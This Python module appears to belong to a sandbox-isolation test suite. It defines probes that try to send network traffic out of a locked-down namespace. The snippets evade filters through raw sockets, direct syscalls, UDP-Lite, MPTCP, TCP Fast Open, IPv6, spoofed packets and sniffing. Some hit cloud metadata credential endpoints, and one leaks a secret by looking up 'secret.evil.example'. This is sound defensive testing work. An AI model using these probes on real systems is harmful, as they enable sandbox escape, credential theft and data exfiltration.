"""Attacks over the network where no host is allowed: past the namespace.

In the world every address is local, and whatever is sent to any of them is seen.
"""

from __future__ import annotations

import attack_proxy
from attack_calling import QUERY, TRY
from attack_probe import Probe


def _direct(name: str, kind: str, why: str, source: str, **more: object) -> Probe:
    return Probe(name, kind, why, TRY + QUERY + source, **more)


_DIRECT = (
    _direct(
        "tcp-to-the-internet",
        "tcp",
        "One connection carries everything away.",
        "each(tcp, ('93.184.216.36', 80), ('8.8.8.8', 443), ('10.1.2.3', 22))\n",
    ),
    _direct(
        "tcp-to-services-of-the-host",
        "tcp",
        "Databases and debuggers on loopback ask for no password.",
        "each(tcp, *(('127.0.0.1', port) for port in W['tcp']))\n",
    ),
    _direct(
        "tcp-to-other-loopbacks",
        "tcp",
        "The whole of 127/8 is the host, and so is 0.0.0.0.",
        "each(tcp, ('127.1.2.3', 5432), ('0.0.0.0', 5432), ('127.255.255.254', 6379))\n",
    ),
    _direct(
        "tcp-by-the-bare-call",
        "tcp",
        "A call made without a library passes by whatever is only preloaded.",
        "s = syscall('socket', 2 | 1 << 32, 1, 6)\n"
        "libc.connect(s, struct.pack('=HH4B8x', 2, 0x0F27, 93, 184, 216, 36), 16)\n",
    ),
    _direct(
        "tcp-by-a-datagram-address",
        "tcp",
        "An IPv6 socket reaches IPv4 by an address that is mapped.",
        "each(tcp, ('::ffff:93.184.216.36', 80), ('::ffff:127.0.0.1', 5432))\n",
    ),
    _direct(
        "tcp-by-an-unwaited-connect",
        "tcp",
        "The first packet leaves before anybody has waited for the connection.",
        """
for port in (80, 443, 9999):
    s = socket.socket()
    s.setblocking(False)
    print(s.connect_ex(("93.184.216.36", port)))
time.sleep(0.1)
""",
    ),
    _direct(
        "udp-to-the-internet",
        "udp",
        "Datagrams carry secrets without a connection.",
        "each(udp, ('93.184.216.36', 9999), ('8.8.8.8', 443))\n",
    ),
    _direct(
        "udp-to-services-of-the-host",
        "udp",
        "The host's time and name services answer on loopback.",
        "each(udp, *(('127.0.0.1', port) for port in W['udp']))\n",
    ),
    _direct(
        "udp-by-many-messages",
        "udp",
        "sendmmsg sends datagrams that a filter of sendto does not see.",
        """
s = syscall("socket", 2, 2, 0)
address = ctypes.create_string_buffer(struct.pack("=HH4B8x", 2, 0x0F27, 93, 184, 216, 36))
word = ctypes.create_string_buffer(b"hello")
piece = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(word), 5))
at = map(ctypes.addressof, (address, piece))
message = struct.pack("@PIPNPNi4xi4x", next(at), 16, next(at), 1, 0, 0, 0, 0)
libc.sendmmsg(s, message, 1, 0)
""",
    ),
    _direct(
        "udp-lite",
        "udp",
        "A protocol that is almost UDP is left out of rules for UDP.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
s.sendto(b"hello", ("93.184.216.36", 9999))
""",
    ),
    _direct(
        "udp-to-everybody",
        "udp",
        "Broadcasts and multicasts reach printers and televisions of the local network.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for address in ("239.255.255.250", "224.0.0.251", "10.255.255.255"):
    s.sendto(b"M-SEARCH * HTTP/1.1\\r\\n\\r\\n", (address, 1900))
""",
    ),
    _direct(
        "dns-by-the-library",
        "dns",
        "A name that is looked up carries a secret to whoever serves the domain.",
        """
for name in ("secret.evil.example", "inner.example"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(error)
""",
    ),
    _direct(
        "dns-over-udp",
        "dns",
        "A question to any name server carries a secret.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "10.0.2.3"):
    s.sendto(query(), (server, 53))
""",
    ),
    _direct(
        "dns-over-tcp",
        "dns",
        "The same question goes over TCP.",
        """
def ask(server):
    with socket.create_connection((server, 53), 2) as s:
        s.sendall(struct.pack("!H", len(query())) + query())


each(ask, "127.0.0.1", "8.8.8.8")
""",
    ),
    _direct(
        "icmp-echo",
        "icmp",
        "The bytes of an echo request go where no port is.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\0\\xf7\\xff" + bytes(4), ("93.184.216.36", 0))
""",
    ),
    _direct(
        "icmp-echo-of-ipv6",
        "icmp",
        "IPv6 has an echo of its own.",
        """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
s.sendto(b"\\x80\\0\\0\\0" + bytes(4), ("2001:db8::1", 0))
""",
    ),
    _direct(
        "raw-packet",
        "raw",
        "A packet of one's own making has any protocol and any sender.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(b"hello", ("93.184.216.36", 0))
""",
        root=True,
    ),
    _direct(
        "raw-packet-with-a-header",
        "raw",
        "With a header of its own a guest sends in the name of another machine.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ends = socket.inet_aton("10.9.9.9") + socket.inet_aton("93.184.216.36")
head = struct.pack("!BBHHHBBH", 0x45, 0, 25, 1, 0, 64, 253, 0)
s.sendto(head + ends + b"hello", ("93.184.216.36", 0))
""",
        root=True,
    ),
    _direct(
        "raw-frame",
        "raw",
        "A frame is sent below every rule for addresses.",
        """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind(("lo", 0))
s.send(bytes(12) + b"\\x88\\xb5" + b"hello" * 12)
""",
        root=True,
    ),
    _direct(
        "raw-frames-are-heard",
        "raw",
        "A listener on an interface hears what every program of the host sends.",
        """
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
s.settimeout(1)
got()
""",
        root=True,
    ),
    _direct(
        "ipv6-to-the-internet",
        "ipv6",
        "Rules for IPv4 alone leave the other half of the network open.",
        "each(tcp, ('2001:db8::1', 443), ('2606:2800:220:1::1', 80))\n",
    ),
    _direct(
        "ipv6-to-services-of-the-host",
        "ipv6",
        "Services listen on ::1 too.",
        "each(tcp, ('::1', 5432), ('::1', 6379))\neach(udp, ('::1', 9999))\n",
    ),
    _direct(
        "ipv6-to-the-link",
        "ipv6",
        "Neighbours on the link are reached without any route.",
        """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b"hello", ("ff02::1", 9999, 0, socket.if_nametoindex("lo")))
""",
    ),
    _direct(
        "mptcp-to-the-internet",
        "mptcp",
        "Multipath TCP is another protocol to rules that say TCP.",
        """
for family, address in ((2, "93.184.216.36"), (10, "2001:db8::1"), (2, "127.0.0.1")):
    s = socket.socket(family, socket.SOCK_STREAM, 262)
    s.settimeout(1)
    try:
        s.connect((address, 443))
    except OSError as error:
        print(error)
""",
    ),
    _direct(
        "fast-open-sends-first",
        "fast-open",
        "Fast Open connects by sending, and never calls connect.",
        """
s = socket.socket()
s.settimeout(1)
print(s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", socket.MSG_FASTOPEN, ("93.184.216.36", 80)))
""",
    ),
    _direct(
        "fast-open-by-a-message",
        "fast-open",
        "sendmsg takes the same flag.",
        """
s = socket.socket()
s.settimeout(1)
print(s.sendmsg([b"hello"], [], socket.MSG_FASTOPEN, ("127.0.0.1", 9999)))
""",
    ),
    _direct(
        "fast-open-by-an-option",
        "fast-open",
        "With the option set, connect returns at once and the first write connects.",
        """
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, 30, 1)
s.connect(("93.184.216.36", 80))
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
""",
    ),
    _direct(
        "metadata-of-the-cloud",
        "metadata",
        "The metadata service hands the machine's keys to whoever asks.",
        "each(tcp, ('169.254.169.254', 80), ('169.254.170.2', 80), ('100.100.100.200', 80))\n",
    ),
    _direct(
        "metadata-over-ipv6",
        "metadata",
        "The same service has an IPv6 address.",
        "each(tcp, ('fd00:ec2::254', 80), ('::ffff:169.254.169.254', 80))\n",
    ),
    _direct(
        "waits-for-the-host",
        "tcp",
        "A service that a guest opens on the host is mistaken for the host's own.",
        """
s = socket.create_server(("127.0.0.1", 7777))
try:
    socket.create_connection(("127.0.0.1", 7777), 1).sendall(b"hello")
except OSError as error:
    print(error)
""",
    ),
)

PROBES = (*_DIRECT, *attack_proxy.PROBES)
